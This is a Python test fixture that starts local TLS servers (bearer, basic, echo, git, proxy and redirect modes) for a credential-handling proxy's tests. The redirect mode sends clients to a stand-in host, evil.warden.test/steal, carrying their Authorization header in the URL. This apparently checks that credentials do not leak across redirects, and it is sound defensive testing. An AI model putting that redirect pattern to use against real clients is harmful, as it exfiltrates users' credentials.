"""TLS servers for tests/credentials.rs, on the host's 127.0.0.1 (reached by a
call only through warden's proxy, under the names of the `# warden tests`
block of /etc/hosts). Prints the port it listens on as its first line, then
serves until killed. Every request is appended to LOG as one JSON line:
{"line": request line, "host": Host, "authorization": Authorization or null}.

    serve.py bearer   LOG CERT KEY TOKEN          200 "ok bearer" for `Authorization: Bearer TOKEN`, else 401
    serve.py basic    LOG CERT KEY USER PASSWORD  200 "ok basic" for that Basic user:password, else 401 with
                                                  `WWW-Authenticate: Basic realm="t"`
    serve.py echo     LOG CERT KEY                the request's headers back in the body; by path:
                                                  /raw, /json (JSON-escaped), /base64, /chunked
                                                  (Transfer-Encoding: chunked), /gzip (Content-Encoding:
                                                  gzip whatever the client accepts)
    serve.py redirect LOG CERT KEY EVIL_PORT      302 to https://evil.warden.test:EVIL_PORT/steal?t=<the
                                                  Authorization it got, percent-encoded>
    serve.py git      LOG CERT KEY ROOT USER PASSWORD
                                                  git smart HTTP (git http-backend) for the repositories
                                                  under ROOT, push enabled, Basic auth required (401 and
                                                  the challenge first, as real servers answer)
    serve.py proxy    LOG CERT KEY UPSTREAM_PORT  TLS in front of a plain HTTP server on 127.0.0.1 (pypiserver,
                                                  verdaccio): forwards each request with its headers (and
                                                  X-Forwarded-Proto: https), logs it
"""

import base64
import gzip
import http.client
import http.server
import json
import os
import ssl
import subprocess
import sys
import threading
import urllib.parse

mode, log, cert, key = sys.argv[1:5]
args = sys.argv[5:]
lock = threading.Lock()
MAX_BODY = 64 << 20


def note(handler):
    entry = {
        "line": handler.requestline,
        "host": handler.headers.get("Host"),
        "authorization": handler.headers.get("Authorization"),
    }
    with lock, open(log, "a") as f:
        f.write(json.dumps(entry) + "\n")


def basic_ok(handler, user, password):
    want = "Basic " + base64.b64encode(("%s:%s" % (user, password)).encode()).decode()
    return handler.headers.get("Authorization") == want


class Base(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *a):
        pass

    def body(self):
        if self.headers.get("Transfer-Encoding", "").lower() == "chunked":
            out = b""
            while True:
                size = int(self.rfile.readline().split(b";")[0].strip() or b"0", 16)
                if size == 0:
                    while self.rfile.readline().strip():
                        pass
                    return out
                out += self.rfile.read(size)
                self.rfile.readline()
                if len(out) > MAX_BODY:
                    raise ValueError("body too large")
        n = int(self.headers.get("Content-Length") or 0)
        if n > MAX_BODY:
            raise ValueError("body too large")
        return self.rfile.read(n) if n else b""

    def reply(self, status, body, headers=()):
        self.send_response(status)
        for k, v in headers:
            self.send_header(k, v)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(body)

    def do_GET(self):
        note(self)
        self.body()
        self.serve()

    do_POST = do_PUT = do_HEAD = do_DELETE = do_PATCH = do_GET


class Bearer(Base):
    def serve(self):
        if self.headers.get("Authorization") == "Bearer " + args[0]:
            self.reply(200, b"ok bearer\n", [("Content-Type", "text/plain")])
        else:
            self.reply(401, b"unauthorized\n", [("WWW-Authenticate", 'Bearer realm="t"')])


class Basic(Base):
    def serve(self):
        if basic_ok(self, args[0], args[1]):
            self.reply(200, b"ok basic\n", [("Content-Type", "text/plain")])
        else:
            self.reply(401, b"unauthorized\n", [("WWW-Authenticate", 'Basic realm="t"')])


class Echo(Base):
    def serve(self):
        raw = str(self.headers).encode("latin-1")
        path = self.path.split("?")[0]
        if path == "/json":
            self.reply(200, json.dumps(dict(self.headers.items())).encode(), [("Content-Type", "application/json")])
        elif path == "/base64":
            self.reply(200, base64.b64encode(raw) + b"\n", [("Content-Type", "text/plain")])
        elif path == "/gzip":
            self.reply(200, gzip.compress(raw), [("Content-Type", "text/plain"), ("Content-Encoding", "gzip")])
        elif path == "/chunked":
            self.send_response(200)
            self.send_header("Content-Type", "text/plain")
            self.send_header("Transfer-Encoding", "chunked")
            self.end_headers()
            for i in range(0, len(raw), 7):
                part = raw[i : i + 7]
                self.wfile.write(b"%x\r\n%s\r\n" % (len(part), part))
            self.wfile.write(b"0\r\n\r\n")
        else:
            self.reply(200, raw, [("Content-Type", "text/plain")])


class Redirect(Base):
    def serve(self):
        t = urllib.parse.quote(self.headers.get("Authorization") or "", safe="")
        where = "https://evil.warden.test:%s/steal?t=%s" % (args[0], t)
        self.reply(302, b"moved\n", [("Location", where)])


class Git(Base):
    def do_GET(self):
        note(self)
        body = self.body()
        if not basic_ok(self, args[1], args[2]):
            self.reply(401, b"unauthorized\n", [("WWW-Authenticate", 'Basic realm="t"')])
            return
        path, _, query = self.path.partition("?")
        env = dict(
            os.environ,
            GIT_PROJECT_ROOT=args[0],
            GIT_HTTP_EXPORT_ALL="1",
            PATH_INFO=path,
            QUERY_STRING=query,
            REQUEST_METHOD=self.command,
            CONTENT_TYPE=self.headers.get("Content-Type", ""),
            CONTENT_LENGTH=str(len(body)),
            REMOTE_ADDR="127.0.0.1",
            REMOTE_USER=args[1],
        )
        if self.headers.get("Content-Encoding"):
            env["HTTP_CONTENT_ENCODING"] = self.headers["Content-Encoding"]
        if self.headers.get("Git-Protocol"):
            env["GIT_PROTOCOL"] = self.headers["Git-Protocol"]
        out = subprocess.run(["git", "http-backend"], input=body, env=env, capture_output=True).stdout
        head, sep, rest = out.partition(b"\r\n\r\n")
        if not sep:
            head, sep, rest = out.partition(b"\n\n")
        status, headers = 200, []
        for line in head.decode("latin-1").splitlines():
            k, _, v = line.partition(":")
            if k.lower() == "status":
                status = int(v.split()[0])
            elif k:
                headers.append((k, v.strip()))
        self.reply(status, rest, headers)

    do_POST = do_GET


HOP = {"connection", "keep-alive", "transfer-encoding", "te", "trailer", "upgrade", "proxy-connection"}


class Proxy(Base):
    def do_GET(self):
        note(self)
        body = self.body()
        up = http.client.HTTPConnection("127.0.0.1", int(args[0]), timeout=120)
        headers = {k: v for k, v in self.headers.items() if k.lower() not in HOP and k.lower() != "content-length"}
        headers["X-Forwarded-Proto"] = "https"
        headers["Content-Length"] = str(len(body))
        up.request(self.command, self.path, body=body, headers=headers)
        r = up.getresponse()
        data = r.read()
        out = [(k, v) for k, v in r.getheaders() if k.lower() not in HOP and k.lower() != "content-length"]
        up.close()
        self.reply(r.status, data, out)

    do_POST = do_PUT = do_HEAD = do_DELETE = do_PATCH = do_GET


handler = {"bearer": Bearer, "basic": Basic, "echo": Echo, "redirect": Redirect, "git": Git, "proxy": Proxy}[mode]
server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
server.daemon_threads = True
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
ctx.load_cert_chain(cert, key)
# The handshake happens in the request's thread, never in the accepting one.
server.socket = ctx.wrap_socket(server.socket, server_side=True, do_handshake_on_connect=False)
print(server.server_address[1], flush=True)
server.serve_forever()
